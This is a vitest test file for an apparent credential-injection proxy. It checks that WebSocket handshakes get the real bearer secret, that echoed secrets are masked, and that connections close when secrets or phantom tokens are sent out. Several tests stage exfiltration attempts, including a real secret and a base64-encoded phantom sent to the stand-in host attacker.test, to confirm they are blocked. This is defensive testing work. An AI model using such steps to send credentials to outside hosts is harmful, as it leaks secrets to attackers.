import type { IncomingMessage } from 'node:http';
import type { Duplex } from 'node:stream';
import { describe, expect, test } from 'vitest';
import { WebSocketServer } from 'ws';
import { credentialOf, secretOf } from '../../src/credentials/inject/testing/context.ts';
import { openWorld, type World } from '../lib/credential-world.ts';

interface Talk {
  readonly world: World;
  /** Heads of the received handshakes, and the messages after them. */
  readonly handshakes: IncomingMessage['headers'][];
  readonly messages: string[];
  /** The end of the connection as the servers see it. */
  readonly closed: number[];
}

/** Servers that return every message, and their key for the word `key`. */
async function openTalk(): Promise<Talk> {
  const handshakes: IncomingMessage['headers'][] = [];
  const messages: string[] = [];
  const closed: number[] = [];
  const world = await openWorld({
    credentials: [credentialOf({ injection: { kind: 'bearer' } })],
    sites: { 'api.test': (_, response) => void response.end(), 'attacker.test': (_, response) => void response.end() },
    prepare: (_, server) => {
      const sockets = new WebSocketServer({ noServer: true, perMessageDeflate: true });
      server.on('upgrade', (request: IncomingMessage, socket: Duplex, head: Buffer) => {
        handshakes.push(request.headers);
        sockets.handleUpgrade(request, socket, head, (opened) => {
          opened.on('close', (code) => void closed.push(code));
          opened.on('message', (data, isBinary) => {
            messages.push(String(data));
            opened.send(String(data) === 'key' ? `it is ${String(request.headers.authorization)}` : (data as Buffer), {
              binary: isBinary,
            });
          });
        });
      });
    },
  });
  return { world, handshakes, messages, closed };
}

/** Sends the requested messages in turn, and prints the answers and the end. */
const program = `
  import { WebSocket } from 'ws';
  import { connect } from 'node:net';
  import { connect as secure } from 'node:tls';
  const [host, authorization, ...messages] = process.argv.slice(1);
  const proxy = new URL(process.env.HTTPS_PROXY);
  const socket = new WebSocket('wss://' + host + '/talk', {
    ...(authorization === '' ? {} : { headers: { authorization } }),
    createConnection: (options, done) => {
      const tcp = connect(Number(proxy.port), proxy.hostname, () => tcp.write('CONNECT ' + host + ':443 HTTP/1.1\\r\\nHost: ' + host + ':443\\r\\nProxy-Authorization: Basic ' + btoa(decodeURIComponent(proxy.username) + ':' + decodeURIComponent(proxy.password)) + '\\r\\n\\r\\n'));
      tcp.once('data', () => done(null, secure({ socket: tcp, servername: host, ALPNProtocols: ['http/1.1'] })));
    },
  });
  const next = () => socket.send(messages.shift());
  socket.on('open', next);
  socket.on('message', (data) => { console.log(String(data)); messages.length > 0 ? next() : socket.close(1000); });
  socket.on('unexpected-response', (request, response) => { console.log(response.statusCode); process.exit(); });
  socket.on('error', (error) => console.log(error.message));
  socket.on('close', (code) => console.log(code));`;

function talk({ world }: Talk, host: string, ...words: readonly string[]): ReturnType<World['run']> {
  return world.run([process.execPath, '--input-type=module', '-e', program, host, ...words]);
}

describe('a WebSocket', () => {
  test('is opened with the secret, and neither side sees the other’s', async () => {
    const open = await openTalk();
    const phantom = open.world.context.phantom();
    expect(await talk(open, 'api.test', `Bearer ${phantom}`, 'hello', 'x'.repeat(100_000), 'key')).toMatchObject({
      stdout: `hello\n${'x'.repeat(100_000)}\nit is Bearer ${'*'.repeat(secretOf('main').length)}\n1000\n`,
    });
    expect(open.handshakes).toMatchObject([{ authorization: `Bearer ${secretOf('main')}` }]);
    expect(open.handshakes[0]).not.toHaveProperty('sec-websocket-extensions');
    expect(open.world.context.alarms).toMatchObject([{ kind: 'secret-reflected', place: 'a WebSocket message' }]);
  });

  test.each([
    ['api.test', 'phantom-misplaced'],
    ['attacker.test', 'phantom-unbound'],
  ] as const)('to %s ends before a phantom leaves in a message', async (host, kind) => {
    const open = await openTalk();
    const phantom = open.world.context.phantom();
    const encoded = Buffer.from(`..${phantom}`).toString('base64');
    for (const message of [phantom, `{"a":"${encoded}"}`]) {
      const { stdout } = await talk(open, host, '', 'hello', message);
      expect(stdout).toBe('hello\n1008\n');
    }
    expect(open.messages).toEqual(['hello', 'hello']);
    expect(open.closed).toEqual([1008, 1008]);
    expect(open.world.context.alarms).toMatchObject([
      { kind, place: 'a WebSocket message', destination: { host } },
      { kind },
    ]);
  });

  test('ends before a real secret leaves in a message', async () => {
    const open = await openTalk();
    expect((await talk(open, 'api.test', `Bearer ${open.world.context.phantom()}`, 'hello')).stdout).toBe(
      'hello\n1000\n',
    );
    expect((await talk(open, 'attacker.test', '', secretOf('main'))).stdout).toBe('1008\n');
    expect(open.messages).toEqual(['hello']);
    expect(open.world.context.alarms).toMatchObject([
      { kind: 'secret-outbound', credential: 'main', destination: { host: 'attacker.test' } },
    ]);
  });

  test('is not opened with a phantom elsewhere, or with another key', async () => {
    const open = await openTalk();
    expect((await talk(open, 'attacker.test', `Bearer ${open.world.context.phantom()}`, 'hello')).stdout).toBe('403\n');
    expect((await talk(open, 'api.test', 'Bearer of-someone-else', 'hello')).stdout).toBe('403\n');
    expect(open.handshakes).toEqual([]);
    expect(open.world.context.alarms.map(({ kind }) => kind)).toEqual(['phantom-unbound', 'foreign-credential']);
  });
});
